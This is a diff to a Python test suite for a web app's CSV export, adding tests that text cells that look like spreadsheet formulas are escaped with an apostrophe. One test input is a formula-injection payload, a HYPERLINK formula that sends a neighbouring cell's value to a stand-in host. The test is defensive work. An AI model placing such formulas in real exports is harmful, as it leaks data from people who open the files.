@@ -364,7 +364,8 @@ def test_the_inbound_links_table_and_its_export_are_the_apis_links(
     exported = list(csv.DictReader(io.StringIO(download.value.path().read_text())))
     every = demo_server.all_pages("links", **body, limit=50)
     assert [(r["source_page"], r["target_page"], r["anchor_text"]) for r in exported] == [
-        (r["source"]["page"], r["target"]["page"], r["anchor_text"]) for r in every
+        (r["source"]["page"], r["target"]["page"], spreadsheet_safe(r["anchor_text"]))
+        for r in every
     ]
     assert len(every) > 5  # more than the first page
     assert page.errors == [] and page.failures == []
@@ -558,3 +559,30 @@ def test_the_overview_says_why_in_the_explain_reports_words(demo_server, offline
     # The report is free: only url_metrics, and Brand Authority when it has a score.
     assert rows_used(demo_server, key) == 1 + (shown(page)["brand_authority"] != "—")
     assert page.errors == [] and page.failures == []
+
+
+def spreadsheet_safe(text: str) -> str:
+    """What the export writes for a text cell: a formula's first character is escaped."""
+    return f"'{text}" if text[:1] in ("=", "+", "-", "@", "\t", "\r") else text
+
+
+def test_an_exported_text_that_looks_like_a_formula_is_escaped(demo_server, offline):
+    """Anchors and titles are what crawled pages say: in a CSV a spreadsheet opens, a formula
+    in one would run. Text cells starting =, +, -, @, tab or CR get an apostrophe; numbers,
+    negative ones included, are written as they are."""
+    page = offline().page()
+    page.goto(f"{demo_server.base_url}/explorer")
+    cells = ['=HYPERLINK("http://x/?"&A2,"y")', "+1", "-a", "@SUM(1)", "\tx", "plain, text", "a=b"]
+    written = page.evaluate(
+        """async (cells) => {
+            const table = await import("/assets/explorer/list_table.js");
+            return [...cells.map(table.csvCell), table.csvCell(-1), table.csvCell(0.5)];
+        }""",
+        cells,
+    )
+    expected = [spreadsheet_safe(c) for c in cells]
+    expected = [
+        f'"{c.replace(chr(34), chr(34) * 2)}"' if '"' in c or "," in c else c for c in expected
+    ]
+    assert written == [*expected, "-1", "0.5"]
+    assert page.errors == []
